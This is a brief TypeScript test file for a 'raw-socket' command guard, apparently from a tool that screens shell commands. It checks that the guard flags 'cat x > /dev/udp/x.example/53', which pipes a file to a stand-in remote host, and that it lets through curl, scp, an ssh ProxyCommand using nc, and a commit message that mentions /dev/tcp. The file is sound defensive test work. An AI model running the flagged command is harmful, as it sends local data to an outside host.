import { guardTest } from '../../../testing/index.ts'
import guard, { docs } from './raw-socket.ts'

guardTest(guard, docs, {
  asks: ['cat x > /dev/udp/x.example/53'],
  allows: [
    'curl https://example.com',
    'git commit -m "echo hi > /dev/tcp/x.example/80"',
    'scp a host:b',
    "ssh -o ProxyCommand='nc -X connect %h %p' x.example uptime",
  ],
})
